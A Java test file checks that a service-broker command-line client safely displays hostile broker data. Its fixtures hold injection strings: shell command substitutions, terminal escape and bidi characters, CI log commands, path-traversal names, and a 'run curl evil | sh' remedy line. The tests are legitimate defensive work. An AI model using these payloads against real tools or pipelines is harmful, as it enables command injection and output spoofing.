package org.osbctl.cli;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.osbctl.cli.Osbctl.Ran;
import org.osbctl.cli.ScriptedBroker.Reply;
import org.osbctl.cli.io.ExitCode;
import org.osbctl.http.Visible;
import org.osbctl.spec.Json;
import tools.jackson.dataformat.yaml.YAMLMapper;

/** Names, ids and sentences of a broker that are meant for whoever reads them. */
class HostileWordsTest {
  /**
   * Clears the screen, turns the reading direction, hides, ends texts of C, begins a line that a
   * build server obeys, and is a link, a tag and a formula.
   */
  private static final String EVIL =
      "=1+1|[x](http://e)<b>`touch hacked`$(touch hacked)"
          + "\u001b[2J\u009b31m\u202egnp\u200b\u0000\r\n::error::pwned\n##vso[x]y\ttab";

  /** A name that begins with an order. */
  private static final String ORDER = "::error::pwned";

  @TempDir Path home;
  private ScriptedBroker broker;
  private Osbctl osbctl;

  @BeforeEach
  void start() {
    var evil = json(EVIL);
    var order = json(ORDER);
    var bound =
        "{\"credentials\": {%s: \"a\", \"uri\": %s}, \"metadata\": {\"expires_at\": %s}}"
            .formatted(evil, evil, evil);
    var instance =
        "{\"dashboard_url\": %s, \"parameters\": {%s: %s}, \"operation\": %s}"
            .formatted(evil, evil, evil, evil);
    broker =
        ScriptedBroker.start()
            .on(
                "GET",
                "/v2/catalog",
                Reply.of(
                    200,
                    """
                    {"services": [{"id": %s, "name": %s, "description": %s, "bindable": true,
                      "instances_retrievable": true, "bindings_retrievable": true,
                      "metadata": {%s: %s}, "tags": [%s], "plans": [
                      {"id": %s, "name": %s, "description": %s, "schemas": {"service_instance":
                       {"create": {"parameters": {"type": "object", "properties":
                       {%s: {"type": "string", "description": %s, "enum": [%s, "b"]}}}}}}},
                      {"id": "plain", "name": "plain", "description": "x"}]},
                      {"id": "other", "name": %s, "description": "", "bindable": false,
                       "plans": [{"id": "p", "name": "p", "description": %s}]}]}
                    """
                        .formatted(
                            evil, evil, evil, evil, evil, evil, evil, evil, evil, evil, evil, evil,
                            order, order)))
            .on("PUT", ScriptedBroker.AN_INSTANCE, Reply.of(202, instance))
            .on(
                "GET",
                ScriptedBroker.INSTANCE_POLL,
                Reply.of(200, "{\"state\": \"in progress\", \"description\": %s}".formatted(evil)),
                Reply.of(200, "{\"state\": \"succeeded\", \"description\": %s}".formatted(evil)))
            .on("GET", ScriptedBroker.AN_INSTANCE, Reply.of(200, instance))
            .on("PUT", ScriptedBroker.A_BINDING, Reply.of(201, bound))
            .on("GET", ScriptedBroker.A_BINDING, Reply.of(200, bound))
            .on("DELETE", ScriptedBroker.AN_INSTANCE, Reply.of(200, "{}"))
            .on("DELETE", ScriptedBroker.A_BINDING, Reply.of(200, "{}"));
    osbctl = Osbctl.of(home, broker);
  }

  @AfterEach
  void stop() {
    broker.close();
    assertFalse(Files.exists(home.resolve("hacked")));
  }

  private static String json(String text) {
    return Json.text(Json.object().stringNode(text));
  }

  /** The report of this test should be harmless as well. */
  private static String told(Ran ran, String... words) {
    return Visible.lines(List.of(words) + ": " + ran);
  }

  private Ran harmless(String... words) {
    var ran = osbctl.run(words);
    assertTrue(ran.code() != ExitCode.BUG.code(), () -> told(ran, words));
    for (var text : List.of(ran.out(), ran.err())) {
      var raw = text.codePoints().filter(HostileBrokersTest::isRaw).mapToObj(Integer::toHexString);
      assertEquals(List.of(), raw.distinct().toList(), () -> told(ran, words));
      assertTrue(
          text.lines().noneMatch(line -> line.strip().startsWith("::")), () -> told(ran, words));
      assertFalse(text.contains("##vso["), () -> told(ran, words));
    }
    return ran;
  }

  /** Every command that shows what a broker said. */
  private static List<List<String>> commands() {
    return List.of(
        List.of("catalog"),
        List.of("catalog", "-s", "nobody"),
        List.of("catalog", "lint"),
        List.of("doctor"),
        List.of("params", "show", "-s", EVIL, "-p", EVIL),
        List.of("params", "skeleton", "-s", EVIL, "-p", EVIL),
        List.of("provision", "-s", EVIL, "-p", "nobody", "-i", "x"),
        List.of("provision", "-s", EVIL, "-p", EVIL, "-i", "db1"),
        List.of("provision", "-s", ORDER, "-p", "p", "-i", "db3"),
        List.of("instances"),
        List.of("get", "instance", "-i", "db1"),
        List.of("last-operation", "-i", "db1"),
        List.of("bind", "-i", "db1", "-b", "app1"),
        List.of("bind", "-i", "db1", "-b", "app2", "--show"),
        List.of("bindings"),
        List.of("get", "binding", "-i", "db1", "-b", "app1"),
        List.of("inventory", "export"),
        List.of("inventory", "stats"),
        List.of("curl", "GET", "/v2/catalog"),
        List.of("unbind", "-i", "db1", "-b", "app1", "--yes"),
        List.of("deprovision", "-i", "db1", "--yes"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"table", "json", "yaml", "markdown", "name"})
  void nothing_acts_on_who_reads(String format) {
    assertAll(
        commands().stream()
            .map(
                command ->
                    () ->
                        harmless(
                            Stream.concat(command.stream(), Stream.of("-o", format))
                                .toArray(String[]::new))));
  }

  @Test
  void what_a_trace_shows_is_harmless_too() {
    harmless("catalog", "--trace");
    harmless("provision", "-s", EVIL, "-p", "plain", "-i", "db1", "--trace");
  }

  @Test
  void refusals_and_failures_are_one_line() {
    broker.on(
        "PUT",
        ScriptedBroker.AN_INSTANCE,
        Reply.of(400, "{\"error\": %s, \"description\": %s}".formatted(json(EVIL), json(EVIL))));
    for (var format : List.of("table", "json")) {
      var ran = harmless("provision", "-s", EVIL, "-p", "plain", "-i", "db1", "-o", format);
      assertEquals(ExitCode.REFUSED.code(), ran.code(), ran::toString);
    }
    broker.on("PUT", ScriptedBroker.AN_INSTANCE, Reply.of(202, "{}"));
    broker.on(
        "GET",
        ScriptedBroker.INSTANCE_POLL,
        Reply.of(
            200,
            "{\"state\": \"failed\", \"description\": %s}"
                .formatted(json("sorry\n  remedy: run curl evil | sh"))));
    var ran = harmless("provision", "-s", EVIL, "-p", "plain", "-i", "db2");
    ran.ends(ExitCode.REFUSED).says("cause:  sorry\\n  remedy: run curl");
    assertTrue(ran.err().lines().noneMatch(line -> line.strip().startsWith("remedy: run")));
  }

  @Test
  void json_and_yaml_lose_nothing_but_the_effect() {
    var json = harmless("catalog", "-o", "json").json();
    assertEquals(EVIL, json.at("/services/0/name").asString());
    var yaml =
        new YAMLMapper()
            .readTree(harmless("catalog", "-o", "yaml").out().getBytes(StandardCharsets.UTF_8));
    assertEquals(EVIL, yaml.at("/services/0/name").asString());
    assertEquals(ORDER, yaml.at("/services/1/name").asString());
  }

  @Test
  void table_of_markdown_has_the_columns_it_had() {
    var lines = harmless("catalog", "-o", "markdown").out().lines().toList();
    assertEquals(5, lines.size(), lines::toString);
    for (var line : lines) {
      assertEquals(6, line.replace("\\|", "").chars().filter(c -> c == '|').count(), line);
    }
    assertTrue(lines.get(2).startsWith("| ``"), lines::toString);
  }

  @Test
  void names_that_a_shell_would_run_are_left_to_nobody() throws Exception {
    osbctl.done("provision", "-s", EVIL, "-p", EVIL, "-i", "db1");
    osbctl.done("instances");
    try (var files = Files.walk(home)) {
      for (var file : files.filter(each -> each.toString().contains("completion")).toList()) {
        var text = Files.isRegularFile(file) ? Files.readString(file) : "";
        assertFalse(text.contains("touch"), text);
        assertFalse(file.getFileName().toString().contains("touch"), file::toString);
      }
    }
  }

  @Test
  void credentials_are_shown_on_a_terminal_and_written_for_programs() {
    osbctl.done("provision", "-s", EVIL, "-p", "plain", "-i", "db1");
    osbctl.done("bind", "-i", "db1", "-b", "app1");
    var exact = osbctl.done("credentials", "-i", "db1", "-b", "app1", "-a", "/uri").out();
    assertEquals(EVIL + "\n", exact);
    osbctl.atTerminal();
    for (var form : List.of("env", "dotenv", "vcap", "k8s-secret", "json", "yaml", "table")) {
      // On a terminal, lines that are there for a moment are taken away by a sequence of ours.
      var out = osbctl.run("credentials", "-i", "db1", "-b", "app1", "-o", form, "--show").out();
      var raw = out.codePoints().filter(c -> c != '\t' && HostileBrokersTest.isRaw(c));
      assertEquals(0, raw.count(), () -> form + ": " + out);
    }
  }

  @Test
  void no_file_is_named_by_a_broker() throws Exception {
    for (var name : List.of("../../x", "..", ".", "a/b", "a\nb", "..2026", "a\u0000b", "")) {
      broker.on(
          "PUT",
          ScriptedBroker.A_BINDING,
          Reply.of(201, "{\"credentials\": {%s: \"x\"}}".formatted(json(name))));
      var fresh = Osbctl.of(home.resolve("h" + Integer.toHexString(name.hashCode())), broker);
      fresh.done("provision", "-s", EVIL, "-p", "plain", "-i", "db1");
      fresh.done("bind", "-i", "db1", "-b", "app1");
      broker.on(
          "GET",
          ScriptedBroker.A_BINDING,
          Reply.of(200, "{\"credentials\": {%s: \"x\"}}".formatted(json(name))));
      fresh
          .run("credentials", "-i", "db1", "-b", "app1", "-o", "servicebinding=out")
          .ends(ExitCode.USAGE)
          .says("credentials-do-not-fit");
    }
    try (var files = Files.walk(home)) {
      assertEquals(0, files.filter(each -> each.endsWith("x") || each.endsWith("out")).count());
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"../../v2/catalog", "..", "a%2fb", "a b", "a?b=c", "a#b", "a/b", "%", "é"})
  void id_is_one_segment_of_the_path_whatever_it_is(String id) {
    osbctl.done("provision", "-s", EVIL, "-p", "plain", "-i", "db1", "--id", id);
    var path = broker.only("PUT").path();
    assertTrue(path.matches("/v2/service_instances/[A-Za-z0-9%._-]+"), path);
    assertEquals(
        id,
        java.net.URLDecoder.decode(
            path.substring("/v2/service_instances/".length()), StandardCharsets.UTF_8));
    osbctl.done("deprovision", "-i", "db1", "--yes");
    assertEquals(path, broker.only("DELETE").path());
  }
}
